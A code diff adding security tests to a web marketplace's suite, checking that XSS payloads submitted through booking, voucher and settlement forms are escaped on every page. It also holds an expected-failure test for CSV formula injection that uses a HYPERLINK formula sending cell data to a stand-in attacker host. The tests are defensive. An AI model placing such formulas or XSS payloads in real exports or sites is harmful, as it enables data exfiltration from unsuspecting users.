@@ -8,13 +8,22 @@ templates did not put there themselves.
 
 from __future__ import annotations
 
+import csv
+import io
 from html.parser import HTMLParser
 from urllib.parse import quote, urlsplit
 
+import pytest
+
 from marketplace.auth.models import SiteRole
 from tests.security.helpers import (
+    CSV_FORMULA_BUG,
     NEW_PASSWORD,
+    build_world,
     field_has_error,
+    instrument_form,
+    local_day,
+    mint_session,
     organization_form,
     quick_user,
     row_counts,
@@ -236,3 +245,182 @@ def test_detector_finds_injected_markup():
         )
         == []
     )
+
+
+# ---------------------------------------------------------------------------------------------
+# step 3: bookings, vouchers, settlement
+def test_step3_payloads_are_escaped_on_every_page(db, make_client, figures):
+    """Booker, lab and officer each write payloads through the step-3 forms (helpers.build_step3
+    world); every page that shows them is checked for each of its readers."""
+    w = build_world(step3=True)
+    clients = {}
+    for persona in ("other_org", "owner_a", "officer"):
+        clients[persona] = make_client()
+        mint_session(clients[persona], w.uid(persona))
+    booker, lab, officer = clients["other_org"], clients["owner_a"], clients["officer"]
+    tally, problems = figures["xss"], []
+
+    def post(client, url, data):
+        response = client.post(url, data=data)
+        assert response.status_code == 302, (url, response.get_data(as_text=True)[:2000])
+        return response.headers["Location"]
+
+    booked = post(
+        booker,
+        f"/instruments/{w.listing_a}/book",
+        {
+            "day": local_day(3).isoformat(),
+            "starts_at": "14:00",
+            "ends_at": "15:00",
+            "organization_id": str(w.org_b_id),
+            "programme_id": str(w.programmes["open"]),
+            "purpose": SCRIPT + IMG,
+            "request_key": "xss:booking",
+            "confirm": "y",
+        },
+    )
+    post(booker, f"/bookings/{w.bookings['approved']}/cancel", {"reason": IMG + SVG})
+    applied = post(
+        booker,
+        f"/vouchers/programmes/{w.programmes['fresh']}/apply",
+        {"organization_id": str(w.org_b_id), "requested_fen": "3000", "purpose": IMG + SVG},
+    )
+    post(
+        booker,
+        f"/vouchers/organizations/{w.org_b_id}/relations",
+        {"related": w.org_a_credit_code, "description": SVG + SCRIPT},
+    )
+    post(lab, f"{booked}/reject", {"reason": SVG + IMG})
+    post(
+        lab,
+        f"/bookings/{w.bookings['started']}/complete",
+        {"actual_minutes": "60", "usage_note": SCRIPT + SVG, "invoice_number": IMG + SCRIPT},
+    )
+    post(
+        lab,
+        f"/instruments/{w.listing_a}/qualifications",
+        {"email": w.email("plain"), "note": IMG + SCRIPT},
+    )
+    post(
+        lab,
+        f"/vouchers/programmes/{w.programmes['fresh']}/admission",
+        {"organization_id": str(w.org_a_id), "note": SCRIPT + SVG},
+    )
+    post(officer, f"{applied}/refuse", {"reason": SCRIPT + IMG})
+    created = post(
+        officer,
+        "/vouchers/programmes/new",
+        {
+            "name_zh": IMG + "创新券",
+            "description": SCRIPT + SVG,
+            "validity_days": "90",
+            "layers-0-name_zh": SVG + "市级",
+            "layers-0-share_bp": "50",
+            "layers-0-budget_fen": "1000",
+        },
+    )
+    post(officer, f"/vouchers/admissions/{w.admission}", {"status": "suspended", "note": IMG + SVG})
+    first, second = w.layers  # the booking form offers the open programme by name
+    post(
+        officer,
+        f"/vouchers/programmes/{w.programmes['open']}/edit",
+        {
+            "name_zh": SVG + "创新券",
+            "validity_days": "90",
+            f"budget_{first}": "100000",
+            "budget_" + str(second): "40000",
+        },
+    )
+    draft, approved = (f"/office/settlement/{w.batches[name]}" for name in ("draft", "approved"))
+    post(officer, f"{draft}/items/{w.items['draft']}/invoice", {"invoice_number": SVG + SCRIPT})
+    post(officer, f"{approved}/pay", {"reference": IMG + SCRIPT})
+    made = created.removesuffix("/manage")
+
+    pages = {
+        "other_org": [
+            f"/instruments/{w.listing_a}/book",
+            booked,
+            f"/bookings/{w.bookings['approved']}",
+            "/bookings/",
+            applied,
+            "/vouchers/",
+            f"/vouchers/organizations/{w.org_b_id}/relations",
+            f"/organizations/{w.org_b_id}",
+        ],
+        "owner_a": [
+            booked,
+            f"/bookings/{w.bookings['started']}",
+            "/bookings/lab",
+            "/vouchers/",
+            f"/vouchers/organizations/{w.org_a_id}/relations",
+            f"/organizations/{w.org_a_id}",
+        ],
+        "officer": [
+            booked,
+            f"/bookings/{w.bookings['started']}",
+            applied,
+            "/vouchers/programmes",
+            made,
+            f"{made}/manage",
+            f"{made}/edit",
+            f"/vouchers/programmes/{w.programmes['open']}/manage",
+            f"/vouchers/admissions/{w.admission}",
+            draft,
+            f"{draft}/print",
+            approved,
+            f"{approved}/print",
+            "/office/audit",
+        ],
+    }
+    for persona, urls in pages.items():
+        for url in urls:
+            check_page(clients[persona], url, tally, problems)
+    assert not problems, "\n".join(problems)
+
+
+def test_opening_hours_error_escapes_the_input(db, make_client, figures):
+    """The publishing form's opening-hours message quotes the part it could not read."""
+    w = build_world(listing_status="published")
+    client = make_client()
+    mint_session(client, w.uid("owner_a"))
+    response = client.post(
+        f"/listings/{w.listing_a}/edit",
+        data={**instrument_form(w.org_a_id), "hours_0": "08:00-" + SVG},
+    )
+    page = response.get_data(as_text=True)
+    assert "problem near" in page or "附近" in page or "&lt;svg" in page, page[:2000]
+    figures["xss"]["pages"] += 1
+    assert SVG not in page and injected_markup(page) == []
+    assert "&lt;svg" in page
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.mark.xfail(strict=True, reason=CSV_FORMULA_BUG)
+def test_settlement_csv_does_not_export_formulas(db, make_client):
+    """A lab records usage with a formula for an invoice number; the officer exports the batch
+    for the finance bureau: no cell may start like a spreadsheet formula (ASVS 5.0 V1.2.10)."""
+    w = build_world(step3=True)
+    lab, officer = make_client(), make_client()
+    mint_session(lab, w.uid("owner_a"))
+    mint_session(officer, w.uid("officer"))
+    formula = '=HYPERLINK("https://evil.example/?"&A2,"发票")'
+    response = lab.post(
+        f"/bookings/{w.bookings['started']}/complete",
+        data={"actual_minutes": "60", "invoice_number": formula},
+    )
+    assert response.status_code == 302
+    response = officer.post(
+        "/office/settlement/new",
+        data={
+            "programme_id": str(w.programmes["open"]),
+            "period_start": local_day(-30).isoformat(),
+            "period_end": local_day(1).isoformat(),
+        },
+    )
+    assert response.status_code == 302
+    text = officer.get(response.headers["Location"] + "/export.csv").get_data(as_text=True)
+    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
+    assert any("HYPERLINK" in cell for cell in cells)  # the invoice number was exported
+    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
